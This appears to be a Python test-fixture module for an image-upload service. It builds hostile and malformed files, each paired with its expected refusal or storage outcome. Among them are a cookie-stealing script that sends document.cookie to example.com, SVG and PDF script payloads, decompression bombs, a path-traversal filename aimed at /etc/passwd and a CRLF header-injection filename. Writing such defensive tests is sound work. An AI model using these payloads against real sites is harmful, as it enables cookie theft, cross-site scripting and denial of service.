"""Files that a customer may send to harm or to confuse the desk, and what becomes of each."""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from PIL import Image, PngImagePlugin

#: Words that no stored picture may hold: they stand in metadata, scripts, or behind the picture.
SECRET = b"31.2304N-121.4737E-secret"
STORED = "stored"


@dataclass(frozen=True)
class Hostile:
    """A file. `outcome`: `STORED` or the code of the refusal. `name`, `declared`: what the client says of it."""

    id: str
    body: Callable[[], bytes]
    outcome: str
    name: str = "screenshot.png"
    declared: str = "image/png"


def picture(mode: str = "RGB", size: tuple[int, int] = (60, 40), kind: str = "PNG", **options: Any) -> bytes:
    """A file of a picture with different pixels, so that a turned picture can be told from the original."""
    bands = len(Image.new(mode, (1, 1)).getbands())
    depth = 2 if mode == "I;16" else 1
    pixels = random.Random(7).randbytes(size[0] * size[1] * bands * depth)
    made = Image.new("1", size) if mode == "1" else Image.frombytes(mode, size, pixels)
    target = io.BytesIO()
    made.save(target, kind, **options)
    return target.getvalue()


def png_chunk(name: bytes, data: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_with(*chunks: bytes, size: tuple[int, int] = (60, 40), depth: int = 8, colour: int = 2) -> bytes:
    """A PNG that begins with these chunks and has no row of pixels."""
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", *size, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + png_chunk(b"IDAT", zlib.compress(b"")) + png_chunk(b"IEND", b"")


def _with_chunk(chunk: bytes) -> bytes:
    """A good PNG with one more chunk before its pixels."""
    body = picture()
    return body[:33] + chunk + body[33:]


def _exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()
    exif[0x8825] = {1: "N", 2: (31.0, 13.0, 49.0), 3: "E", 4: (121.0, 28.0, 25.0), 29: SECRET.decode()}
    if orientation is not None:
        exif[0x0112] = orientation
    return exif


def _text_chunks() -> bytes:
    about = PngImagePlugin.PngInfo()
    about.add_text("Comment", SECRET.decode())
    about.add_itxt("XML:com.adobe.xmp", SECRET.decode())
    return picture(pnginfo=about)


def _bomb(size: tuple[int, int]) -> bytes:
    """A small file that claims to be a large picture, and holds all of its rows."""
    packer, rows = zlib.compressobj(), b"\0" * (size[0] // 8 + 1)
    packed = b"".join(packer.compress(rows * 1000) for _ in range(size[1] // 1000)) + packer.flush()
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")


def _animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (30, 30), colour) for colour in ("red", "green")]
    target = io.BytesIO()
    frames[0].save(target, kind, save_all=True, append_images=frames[1:])
    return target.getvalue()


def _zip() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("run.js", SECRET)
    return target.getvalue()


def _jpeg_of_claimed_size(width: int, height: int) -> bytes:
    body = bytearray(picture(kind="JPEG"))
    at = body.index(b"\xff\xc0")
    body[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(body)


def _damaged_exif() -> bytes:
    body = picture(kind="JPEG", exif=_exif(6))
    at = body.index(b"Exif\0\0") + 6
    return body[: at + 4] + b"\xff\xff\xff\x7f" + body[at + 8 :]


_SCRIPT = b"<script>fetch('//example.com/'+document.cookie)</script>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
_GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
_HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200)
_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"

HOSTILE = (
    Hostile("0 bytes", lambda: b"", "empty_file"),
    Hostile("1 byte", lambda: b"\x89", "picture_type"),
    Hostile("random bytes", lambda: os.urandom(5000), "picture_type"),
    Hostile("SVG with a script", lambda: _SVG, "picture_type", "a.svg", "image/svg+xml"),
    Hostile("SVG that says it is a PNG", lambda: _SVG, "picture_type"),
    Hostile("HTML that says it is a PNG", lambda: b"<!doctype html>" + _SCRIPT, "picture_type"),
    Hostile("GIF", lambda: _GIF, "picture_type", "a.gif", "image/gif"),
    Hostile("animated GIF", lambda: _animated("GIF"), "picture_type", "a.gif", "image/gif"),
    Hostile("BMP", lambda: picture(kind="BMP"), "picture_type"),
    Hostile("TIFF", lambda: picture(kind="TIFF"), "picture_type"),
    Hostile("ICO", lambda: picture(kind="ICO"), "picture_type"),
    Hostile("PDF with a script", lambda: _PDF, "picture_type", "a.pdf", "application/pdf"),
    Hostile("EPS, which starts a program", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9", "picture_type"),
    Hostile("ZIP", _zip, "picture_type", "a.zip", "application/zip"),
    Hostile("program", lambda: b"\x7fELF" + os.urandom(300), "picture_type", "a.png.exe"),
    Hostile("HEIC", lambda: _HEIC, "picture_heic", "IMG_1.HEIC", "image/heic"),
    Hostile("RIFF that is sound", lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(20), "picture_type", "a.webp", "image/webp"),
    Hostile("signature of a PNG alone", lambda: b"\x89PNG\r\n\x1a\n", "picture_broken"),
    Hostile("signature of a JPEG alone", lambda: b"\xff\xd8\xff", "picture_broken"),
    Hostile("signature of a WebP alone", lambda: b"RIFF\xff\xff\xff\xffWEBPVP8 ", "picture_broken"),
    Hostile("truncated PNG", lambda: picture(size=(300, 300))[:9000], "picture_broken"),
    Hostile("truncated JPEG", lambda: picture(size=(300, 300), kind="JPEG")[:9000], "picture_broken"),
    Hostile("truncated WebP", lambda: picture(size=(300, 300), kind="WEBP")[:3000], "picture_broken"),
    Hostile("PNG without pixels", png_with, "picture_broken"),
    Hostile("PNG of 2 billion pixels a side", lambda: png_with(size=(2**31 - 1, 2**31 - 1)), "picture_too_many_pixels"),
    Hostile("PNG of one row that is 2 billion long", lambda: png_with(size=(2**31 - 1, 1)), "picture_too_many_pixels"),
    Hostile("PNG of no size", lambda: png_with(size=(0, 0)), "picture_broken"),
    Hostile("50 megapixels", lambda: _bomb((10_000, 5_000)), "picture_too_many_pixels"),
    Hostile("bomb of 400 megapixels", lambda: _bomb((20_000, 20_000)), "picture_too_many_pixels"),
    Hostile("JPEG that claims 65,000 by 65,000", lambda: _jpeg_of_claimed_size(65_000, 65_000), "picture_too_many_pixels"),
    Hostile(
        "PNG with a text that unpacks to 80 MB",
        lambda: _with_chunk(png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(80_000_000)))),
        "picture_broken",
    ),
    Hostile(
        "PNG with a colour profile that unpacks to 80 MB",
        lambda: _with_chunk(png_chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(80_000_000)))),
        "picture_broken",
    ),
    Hostile("animated PNG", lambda: _animated("PNG"), "picture_animated"),
    Hostile("animated WebP", lambda: _animated("WEBP"), "picture_animated", "a.webp", "image/webp"),
    Hostile("JPEG with a place in its metadata", lambda: picture(kind="JPEG", exif=_exif()), STORED, "a.jpg", "image/jpeg"),
    Hostile("JPEG with damaged metadata", _damaged_exif, STORED, "a.jpg", "image/jpeg"),
    Hostile("JPEG with a script as its comment", lambda: picture(kind="JPEG", comment=_SCRIPT + SECRET), STORED),
    Hostile("JPEG with a colour profile", lambda: picture(kind="JPEG", icc_profile=SECRET * 20), STORED),
    Hostile("PNG with texts", _text_chunks, STORED),
    Hostile("PNG with a place in its metadata", lambda: picture(exif=_exif()), STORED),
    Hostile("WebP with a place in its metadata", lambda: picture(kind="WEBP", lossless=True, exif=_exif()), STORED),
    Hostile("JPEG that is a ZIP, too", lambda: picture(kind="JPEG") + _zip(), STORED, "a.jpg.zip"),
    Hostile("PNG that is a page, too", lambda: picture() + _SCRIPT + SECRET, STORED, "a.html", "text/html"),
    Hostile("JPEG that is a PDF, too", lambda: picture(kind="JPEG", comment=_PDF + SECRET), STORED, "a.pdf", "application/pdf"),
    Hostile("CMYK JPEG", lambda: picture("CMYK", kind="JPEG"), STORED, "a.jpg", "image/jpeg"),
    Hostile("16-bit PNG", lambda: picture("I;16"), STORED),
    Hostile("transparent PNG", lambda: picture("RGBA"), STORED),
    Hostile("PNG of two colours", lambda: picture("1"), STORED),
    Hostile("PNG of one pixel", lambda: picture(size=(1, 1)), STORED),
    Hostile("name that leaves its folder", picture, STORED, "../../../../etc/passwd"),
    Hostile("name with line ends and quotes", picture, STORED, 'a.png"\r\nContent-Type: text/html\r\n\r\n<script>'),
    Hostile("name of 4,000 characters", picture, STORED, "图" * 1300 + ".png"),
)


def turned(orientation: int) -> bytes:
    """A JPEG of 60 by 40 pixels, whose camera was held in another way."""
    return picture(kind="JPEG", exif=_exif(orientation))


def uploads_that_are_no_form(boundary: bytes = b"edge") -> Iterator[tuple[str, bytes, str, str]]:
    """Bodies that are no form with one file: what each is, the body, its declared type, and the code of the refusal."""
    part = b'--%s\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\n\r\n%s\r\n'
    form = "multipart/form-data; boundary=edge"
    one, end = part % (boundary, b"a.png", picture()), b"--" + boundary + b"--\r\n"
    yield "no form", picture(), "image/png", "bad_upload"
    yield "JSON", b"{}", "application/json", "bad_upload"
    yield "no boundary", one + end, "multipart/form-data", "bad_upload"
    yield "another boundary", one + end, "multipart/form-data; boundary=other", "bad_upload"
    yield "no file", b'--edge\r\nContent-Disposition: form-data; name="file"\r\n\r\nx\r\n' + end, form, "file_missing"
    yield "empty body", b"", form, "file_missing"
    yield "two files", one + one + end, form, "one_file_only"
    yield "a part without a name", b"--edge\r\nContent-Disposition: form-data\r\n\r\nx\r\n" + end, form, "bad_upload"
    yield "an endless field", b'--edge\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + b"x" * 5000, form, "bad_upload"
    yield "an endless head", b"--edge\r\nX: " + b"x" * 200_000, form, "bad_upload"
    yield "many fields", b'--edge\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 50 + end, form, "bad_upload"
    yield "a slow character set", one + end, "multipart/form-data; charset=punycode; boundary=edge", STORED
    yield "no end", one[:-30], form, "file_missing"
